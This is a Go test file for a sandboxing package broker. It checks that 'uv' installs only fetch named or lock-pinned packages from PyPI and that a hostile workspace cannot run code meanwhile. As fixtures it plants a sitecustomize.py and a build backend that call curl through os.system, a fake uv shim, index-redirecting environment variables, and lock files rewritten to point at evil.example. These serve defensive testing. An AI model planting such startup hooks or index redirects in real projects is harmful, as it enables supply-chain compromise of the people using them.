package broker_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/internal/box/broker"
	"github.com/tidemark/tidemark/internal/test/boxtest"
)

// BOX-02: uv fetches what is named, or what a lock pins, and nothing of a hostile project runs while it can.
func TestUVBringsPackages(t *testing.T) {
	boxtest.Needs(t, "uv", "python3", "curl")
	o := newMarket(t)
	o.Must("/usr/bin/python3 -m venv .venv")
	evil := "import os\nos.system('/usr/bin/curl -sk --max-time 5 https://pypi.org/evil/python')\n"
	o.Put(filepath.Join(o.Work, "pyproject.toml"), "[project]\nname = \"site\"\nversion = \"1.0\"\nrequires-python = \">=3.8\"\ndependencies = []\n")
	o.broker() // the session's box is made while the workspace is harmless
	o.Put(filepath.Join(o.Work, "sitecustomize.py"), evil)
	o.Put(filepath.Join(o.Work, "bin/uv"), "#!/bin/sh\n/usr/bin/curl -sk https://pypi.org/evil/uv\n")
	o.Put(filepath.Join(o.Work, "backend.py"), evil)
	env := o.Env
	o.Env = append(o.Env, "PYTHONPATH="+o.Work, "UV_INDEX_URL=https://evil.example/simple", "UV_DEFAULT_INDEX=https://evil.example/simple", "UV_PYTHON="+o.Work+"/bin/uv", "SSL_CERT_DIR="+o.Work)
	for i, e := range o.Env {
		if strings.HasPrefix(e, "PATH=") {
			o.Env[i] = "PATH=" + o.Work + "/bin:" + strings.TrimPrefix(e, "PATH=")
		}
	}
	d, err := o.prepare("uv pip install nice")
	if err != nil || len(d.Question.Packages) != 1 || d.Question.Host != "pypi.org" {
		t.Fatalf("%v %+v", err, d)
	}
	if code, out, err := o.run(d); code != 0 || err != nil {
		t.Fatalf("%d %v\n%s", code, err, out)
	}
	o.quiet("pypi.org", "files.pythonhosted.org")
	o.Env = env
	o.Must(".venv/bin/python -c 'import nice'")
	if code, out, err := o.run(must(o.prepare("uv add -q nice"))); code != 0 || err != nil {
		t.Fatalf("%d %v\n%s", code, err, out)
	}
	lock, err := os.ReadFile(filepath.Join(o.Work, "uv.lock"))
	if err != nil || !strings.Contains(string(lock), `registry = "https://pypi.org/simple"`) || strings.Contains(string(lock), "/tmp/") {
		t.Fatalf("%v\n%s", err, lock)
	}
	o.Must("rm -rf .venv")
	o.pins = broker.Pins{"uv.lock": blob(string(lock))}
	o.Put(filepath.Join(o.Work, "pyproject.toml"), "[project]\nname = \"site\"\nversion = \"1.0\"\nrequires-python = \">=3.8\"\ndependencies = [\"nice\"]\n[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"+
		"[[tool.uv.index]]\nurl = \"https://evil.example/simple\"\ndefault = true\n")
	if d = must(o.prepare("uv sync --frozen")); d.Ask || len(d.Question.Packages) != 1 {
		t.Errorf("%+v", d)
	}
	_, _, _ = o.run(d) // the project's own part may fail
	o.quiet("pypi.org", "files.pythonhosted.org")
	o.Put(filepath.Join(o.Work, "pyproject.toml"), "[project]\nname = \"site\"\nversion = \"1.0\"\nrequires-python = \">=3.8\"\ndependencies = [\"nice\"]\n")
	if code, out, err := o.run(must(o.prepare("uv sync"))); code != 0 || err != nil {
		t.Errorf("%d %v\n%s", code, err, out)
	}
	o.Must(".venv/bin/python -c 'import nice'")
	for name, text := range map[string]string{
		"another index": strings.ReplaceAll(string(lock), "https://pypi.org/simple", "https://evil.example/simple"), "another host": strings.ReplaceAll(string(lock), "https://files.pythonhosted.org/", "https://evil.example/"),
		"git": strings.Replace(string(lock), `registry = "https://pypi.org/simple"`, `git = "https://evil.example/x"`, 1), "a path": strings.Replace(string(lock), `registry = "https://pypi.org/simple"`, `path = "../x"`, 1), "nothing": "version = 1\n",
	} {
		o.Put(filepath.Join(o.Work, "uv.lock"), text)
		if _, err := o.prepare("uv sync"); !errors.Is(err, broker.ErrNotHere) {
			t.Errorf("%s: %v", name, err)
		}
	}
	o.Put(filepath.Join(o.Work, "uv.lock"), string(lock)+"\n")
	if d, err := o.prepare("uv sync"); err != nil || !d.Ask {
		t.Errorf("changed: %v, and nobody is asked", err)
	}
	o.quiet("pypi.org", "files.pythonhosted.org")
}

func must(d *broker.Deed, err error) *broker.Deed {
	if err != nil {
		panic(err)
	}
	return d
}
